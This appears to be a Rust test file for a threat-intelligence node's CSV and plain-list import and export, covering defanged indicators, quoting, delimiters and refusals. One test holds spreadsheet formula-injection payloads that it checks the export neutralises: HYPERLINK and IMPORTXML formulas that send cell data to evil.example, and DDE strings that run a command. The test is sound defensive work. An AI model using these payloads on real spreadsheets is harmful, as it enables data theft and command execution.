//! CSV and plain-list import, and CSV export: detection, quoting, refusals with line
//! numbers, and a round trip through signed entries.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests unwrap what they built themselves

use std::collections::BTreeMap;

use threatmesh_node::formats::csv::{self, Column, CsvError, CsvOptions};
use threatmesh_node::formats::{Import, Publisher};
use threatmesh_protocol::bundle::{Bundle, Distribution, Tlp};
use threatmesh_protocol::entry::Body;
use threatmesh_protocol::item::{Indicator, Item, Revocation, RevocationReason};
use threatmesh_protocol::{Hash, Kind, PublicKey, SignedEntry, SigningKey, Timestamp, Value};

const NOW: Timestamp = Timestamp(1_700_000_000_000);

fn import(text: &[u8], options: &CsvOptions) -> Import {
    csv::import(text, NOW, options).unwrap()
}

fn detect(text: &[u8]) -> Import {
    import(text, &CsvOptions::default())
}

fn values(import: &Import) -> Vec<(Kind, String)> {
    import
        .items
        .iter()
        .map(|marked| {
            let value = marked.item.value();
            (value.kind(), value.as_str().to_owned())
        })
        .collect()
}

fn pair(kind: Kind, value: &str) -> (Kind, String) {
    (kind, value.to_owned())
}

fn refused(import: &Import) -> Vec<(String, String)> {
    import
        .report
        .refused
        .iter()
        .map(|r| (r.at.clone(), r.reason.clone()))
        .collect()
}

#[test]
fn plain_list_detects_kinds_accepts_defanged_values_and_skips_comments() {
    let list = b"# C2 servers, 2024-05\n\n  198.51.100[.]7  \nhxxp://evil[.]example/gate.php\n\
                 phish[@]evil.example\n0749bae92ca336a02c83d126e04ec628\n# the end\n";
    let import = detect(list);
    assert_eq!(
        values(&import),
        vec![
            pair(Kind::Ipv4, "198.51.100.7"),
            pair(Kind::Url, "http://evil.example/gate.php"),
            pair(Kind::Email, "phish@evil.example"),
            pair(Kind::Md5, "0749bae92ca336a02c83d126e04ec628"),
        ]
    );
    assert_eq!(import.report.read, 4);
    assert!(import.report.refused.is_empty(), "{:?}", refused(&import));
    let Item::Indicator(first) = &import.items[0].item else {
        panic!("not an indicator");
    };
    assert_eq!(first.valid_from, NOW);
    assert!(import.items.iter().all(|marked| marked.tlp.is_none()));
}

#[test]
fn refused_lines_name_their_number_and_reason_and_the_rest_is_kept() {
    let list = b"evil.example\nnot a value\n\n999.1.1.1\ngood.example\n";
    let import = detect(list);
    assert_eq!(
        values(&import),
        vec![
            pair(Kind::Domain, "evil.example"),
            pair(Kind::Domain, "good.example")
        ]
    );
    let refused = refused(&import);
    assert_eq!(refused.len(), 2);
    assert_eq!(refused[0].0, "line 2");
    assert!(
        refused[0].1.contains("not recognisable"),
        "{}",
        refused[0].1
    );
    assert_eq!(refused[1].0, "line 4");
    assert!(refused[1].1.contains("999.1.1.1"), "{}", refused[1].1);
    assert_eq!(import.report.read, 4);
}

#[test]
fn a_non_utf8_line_is_refused_alone() {
    let list = b"a.example\nb\xff.example\nc.example\n";
    let import = detect(list);
    assert_eq!(
        values(&import),
        vec![
            pair(Kind::Domain, "a.example"),
            pair(Kind::Domain, "c.example")
        ]
    );
    let refused = refused(&import);
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0].0, "line 2");
    assert!(refused[0].1.contains("not UTF-8"), "{}", refused[0].1);
}

#[test]
fn byte_order_mark_and_crlf_are_dropped() {
    let import = detect(b"\xef\xbb\xbfa.example\r\nb.example\r\n");
    assert_eq!(
        values(&import),
        vec![
            pair(Kind::Domain, "a.example"),
            pair(Kind::Domain, "b.example")
        ]
    );
}

#[test]
fn duplicates_keep_the_first_and_are_counted() {
    let import = detect(b"a.example\nA.EXAMPLE\na[.]example\nb.example\n");
    assert_eq!(
        values(&import),
        vec![
            pair(Kind::Domain, "a.example"),
            pair(Kind::Domain, "b.example")
        ]
    );
    assert_eq!(
        import.report.unused,
        BTreeMap::from([("duplicate".to_owned(), 2)])
    );
    assert_eq!(import.report.read, 4);
}

#[test]
fn csv_with_header_takes_the_value_column_by_name_index_or_default() {
    let text = b"first_seen,ioc,note\n2024-01-01,evil[.]example,seen\n2024-01-02,192.0.2.1,also\n";
    let expected = vec![
        pair(Kind::Domain, "evil.example"),
        pair(Kind::Ipv4, "192.0.2.1"),
    ];
    // Detected: the header has an `ioc` column.
    let detected = detect(text);
    assert_eq!(values(&detected), expected);
    assert_eq!(detected.report.read, 2);
    let by_name = import(
        text,
        &CsvOptions {
            column: Some(Column::Name("IOC".to_owned())),
            ..CsvOptions::default()
        },
    );
    assert_eq!(values(&by_name), expected);
    let by_index = import(
        text,
        &CsvOptions {
            column: Some(Column::Index(1)),
            ..CsvOptions::default()
        },
    );
    assert_eq!(values(&by_index), expected);

    let error = csv::import(
        text,
        NOW,
        &CsvOptions {
            column: Some(Column::Name("indicator".to_owned())),
            ..CsvOptions::default()
        },
    )
    .unwrap_err();
    assert!(
        matches!(&error, CsvError::NoSuchColumn { name, .. } if name == "indicator"),
        "{error}"
    );
}

#[test]
fn quoted_fields_hold_delimiters_doubled_quotes_and_line_breaks() {
    let text = b"value,comment\r\n\"evil.example\",\"a, b\"\r\n\"192.0.2.1\",\"said \"\"hi\"\"\nover two lines\"\r\nbad.example,\"never closed\nc.example,ok\n";
    let import = detect(text);
    assert_eq!(
        values(&import),
        vec![
            pair(Kind::Domain, "evil.example"),
            pair(Kind::Ipv4, "192.0.2.1"),
            pair(Kind::Domain, "c.example"),
        ]
    );
    // The record with the line break starts on line 3, so the next record is line 5, and
    // the quote never closed costs only its own line.
    let refused = refused(&import);
    assert_eq!(
        refused,
        vec![(
            "line 5".to_owned(),
            "a quoted field is never closed".to_owned()
        )]
    );
}

#[test]
fn semicolons_tabs_and_pipes_are_detected_and_can_be_forced() {
    for delimiter in [";", "\t", "|"] {
        let text = format!("a.example{delimiter}x\nb.example{delimiter}y\n");
        let import = detect(text.as_bytes());
        assert_eq!(
            values(&import),
            vec![
                pair(Kind::Domain, "a.example"),
                pair(Kind::Domain, "b.example")
            ],
            "delimiter {delimiter:?}"
        );
    }
    // One line is too little to detect; forced, the second column is read.
    let forced = import(
        b"x;192.0.2.7\n",
        &CsvOptions {
            delimiter: Some(b';'),
            column: Some(Column::Index(1)),
            ..CsvOptions::default()
        },
    );
    assert_eq!(values(&forced), vec![pair(Kind::Ipv4, "192.0.2.7")]);
    // A row without the chosen column is refused, the others kept.
    let short = import(
        b"a;192.0.2.7\nb\nc;192.0.2.8\n",
        &CsvOptions {
            delimiter: Some(b';'),
            column: Some(Column::Index(1)),
            ..CsvOptions::default()
        },
    );
    assert_eq!(
        values(&short),
        vec![pair(Kind::Ipv4, "192.0.2.7"), pair(Kind::Ipv4, "192.0.2.8")]
    );
    assert_eq!(refused(&short)[0].0, "line 2");
}

#[test]
fn forced_kind_parses_every_value_as_that_kind() {
    let options = CsvOptions {
        kind: Some(Kind::Asn),
        ..CsvOptions::default()
    };
    // Detection never takes a bare number for an ASN; a forced kind does.
    let import = import(b"64500\nAS64501\nevil.example\n", &options);
    assert_eq!(
        values(&import),
        vec![pair(Kind::Asn, "AS64500"), pair(Kind::Asn, "AS64501")]
    );
    assert_eq!(refused(&import)[0].0, "line 3");
    assert_eq!(detect(b"64500\n").report.refused.len(), 1);
}

#[test]
fn absurd_sizes_and_bad_delimiters_are_errors() {
    let error = csv::import(
        b"x",
        NOW,
        &CsvOptions {
            delimiter: Some(b'"'),
            ..CsvOptions::default()
        },
    )
    .unwrap_err();
    assert!(matches!(error, CsvError::BadDelimiter('"')), "{error}");
    let error = csv::import(
        b"x",
        NOW,
        &CsvOptions {
            column: Some(Column::Name("value".to_owned())),
            has_header: Some(false),
            ..CsvOptions::default()
        },
    )
    .unwrap_err();
    assert!(matches!(error, CsvError::NoHeader(_)), "{error}");
}

// --- export ------------------------------------------------------------------------------

fn entry(items: Vec<Item>, tlp: Tlp) -> SignedEntry {
    let bundle = Bundle {
        tlp,
        distribution: Distribution::Federation,
        items,
    };
    SignedEntry::next(
        &SigningKey::from_bytes(&[5; 32]),
        Hash([0xfe; 32]),
        None,
        NOW,
        Body::Bundle(bundle),
    )
    .unwrap()
}

#[test]
fn export_writes_one_quoted_row_per_indicator_and_reads_back() {
    let mut described = Indicator::new(
        Value::parse(Kind::Url, "http://evil.example/a,b").unwrap(),
        Timestamp(1_700_000_000_500),
    );
    described.context.description = Some("said \"hi\"\nthen left".to_owned());
    described.labels = vec!["c2".to_owned(), "phishing".to_owned()];
    described.valid_until = Some(Timestamp::from_secs(1_800_000_000));
    let items = vec![
        Item::Indicator(described),
        Item::Indicator(Indicator::new(
            Value::parse(Kind::Asn, "AS64500").unwrap(),
            NOW,
        )),
        Item::Revocation(Revocation {
            value: Value::parse(Kind::Domain, "old.example").unwrap(),
            reason: RevocationReason::Expired,
            note: None,
        }),
    ];
    let signed = entry(items, Tlp::Amber);
    let publisher = Publisher {
        org: PublicKey([9; 32]),
        name: "CERT-DE".to_owned(),
        country: "DE".to_owned(),
    };
    let mut out = Vec::new();
    let rows = csv::export(&mut out, [(signed.entry(), signed.id(), &publisher)]).unwrap();
    assert_eq!(rows, 2);
    let text = String::from_utf8(out.clone()).unwrap();
    let mut lines = text.split("\r\n");
    assert_eq!(
        lines.next().unwrap(),
        "kind,value,tlp,confidence,valid_from,valid_until,labels,threat,description,publisher,entry,\
         warninglists"
    );
    let entry_id = threatmesh_protocol::crypto::hex_encode(&signed.id().0);
    assert_eq!(
        lines.next().unwrap(),
        "url,\"http://evil.example/a,b\",TLP:AMBER,50,2023-11-14T22:13:20.5Z,\
         2027-01-15T08:00:00Z,c2;phishing,,\"said \"\"hi\"\"\nthen left\",CERT-DE,"
            .to_owned()
            + &entry_id
            + ","
    );

    // Read back with detection: header, value column, kinds and markings come along.
    let back = detect(&out);
    assert_eq!(
        values(&back),
        vec![
            pair(Kind::Url, "http://evil.example/a,b"),
            pair(Kind::Asn, "AS64500")
        ]
    );
    assert!(
        back.items
            .iter()
            .all(|marked| marked.tlp == Some(Tlp::Amber))
    );
    assert!(back.report.refused.is_empty(), "{:?}", refused(&back));
}

/// The cells of a CSV text as RFC 4180 reads them (quotes removed, doubled quotes undone),
/// row by row: what a spreadsheet sees before it decides whether a cell is a formula.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "unterminated CSV"
    );
    rows
}

#[test]
fn no_member_text_reaches_a_spreadsheet_as_a_formula() {
    // A member publishes indicators whose every free-text field, and the value where the
    // kind lets it (an e-mail local part may hold = + - '), starts with a character that
    // makes a spreadsheet evaluate the cell; the charter names it with one too.
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let emails = [
        "=cmd@evil.example",
        "+cmd@evil.example",
        "-cmd@evil.example",
        "'=cmd@evil.example",
        "''-cmd@evil.example",
        "plain@evil.example",
    ];
    let items = formulas
        .iter()
        .zip(emails)
        .map(|(formula, email)| {
            let mut indicator = Indicator::new(Value::parse(Kind::Email, email).unwrap(), NOW);
            indicator.context.description = Some((*formula).to_owned());
            indicator.context.threat = Some((*formula).to_owned());
            indicator.labels = vec![(*formula).to_owned(), "phishing".to_owned()];
            Item::Indicator(indicator)
        })
        .collect();
    let signed = entry(items, Tlp::Green);
    let publisher = Publisher {
        org: PublicKey([9; 32]),
        name: "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")".to_owned(),
        country: "DE".to_owned(),
    };
    let mut out = Vec::new();
    let rows = csv::export(&mut out, [(signed.entry(), signed.id(), &publisher)]).unwrap();
    assert_eq!(rows, formulas.len());
    let text = String::from_utf8(out.clone()).unwrap();

    let table = cells(&text);
    assert_eq!(table.len(), formulas.len() + 1);
    for cell in table.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would evaluate {cell:?} in\n{text}"
        );
    }
    // The text is kept, behind the `'` that makes it text.
    for (row, (formula, email)) in table[1..].iter().zip(formulas.iter().zip(emails)) {
        let value = Value::parse(Kind::Email, email).unwrap();
        let value = value.as_str();
        let shown_value = if value.trim_start_matches('\'').starts_with(['=', '+', '-']) {
            format!("'{value}")
        } else {
            value.to_owned()
        };
        assert_eq!(row[1], shown_value);
        assert_eq!(row[6], format!("'{formula};phishing"));
        assert_eq!(row[7], format!("'{formula}"));
        assert_eq!(row[8], format!("'{formula}"));
        assert_eq!(row[9], format!("'{}", publisher.name));
    }

    // Importing the export gives back exactly the published values.
    let back = detect(&out);
    assert!(back.report.refused.is_empty(), "{:?}", refused(&back));
    let expected: Vec<_> = emails
        .iter()
        .map(|email| {
            let value = Value::parse(Kind::Email, email).unwrap();
            (Kind::Email, value.as_str().to_owned())
        })
        .collect();
    assert_eq!(values(&back), expected);
}

#[test]
fn the_warninglists_column_names_the_lists_a_value_is_on() {
    let lists = threatmesh_node::warninglists::Warninglists::builtin();
    let key = threatmesh_protocol::SigningKey::from_bytes(&[7; 32]);
    let items = ["8.8.8.8", "45.155.205.233"]
        .map(|text| {
            threatmesh_protocol::item::Item::Indicator(threatmesh_protocol::item::Indicator::new(
                Value::parse(Kind::Ipv4, text).unwrap(),
                threatmesh_protocol::Timestamp(1_700_000_000_000),
            ))
        })
        .to_vec();
    let entry = threatmesh_protocol::Entry {
        federation: threatmesh_protocol::Hash([1; 32]),
        author: PublicKey::of(&key),
        seq: 1,
        prev: None,
        created: threatmesh_protocol::Timestamp(1_700_000_000_000),
        body: threatmesh_protocol::Body::Bundle(threatmesh_protocol::Bundle {
            tlp: threatmesh_protocol::Tlp::Green,
            distribution: threatmesh_protocol::Distribution::Federation,
            items,
        }),
    };
    let publisher = Publisher {
        org: PublicKey([9; 32]),
        name: "CERT-DE".to_owned(),
        country: "DE".to_owned(),
    };
    let mut out = Vec::new();
    csv::write_header(&mut out).unwrap();
    csv::write_entry_marked(
        &mut out,
        &entry,
        threatmesh_protocol::Hash([2; 32]),
        &publisher,
        Some(&lists),
    )
    .unwrap();
    let text = String::from_utf8(out).unwrap();
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert!(lines[0].ends_with(",entry,warninglists"), "{text}");
    let last = |line: &str| line.rsplit(',').next().unwrap().to_owned();
    assert!(lines[1].starts_with("ipv4,8.8.8.8,"), "{text}");
    assert!(
        last(lines[1])
            .split(';')
            .any(|list| list == "public-dns-v4"),
        "{text}"
    );
    assert_eq!(last(lines[2]), "", "{text}");
}
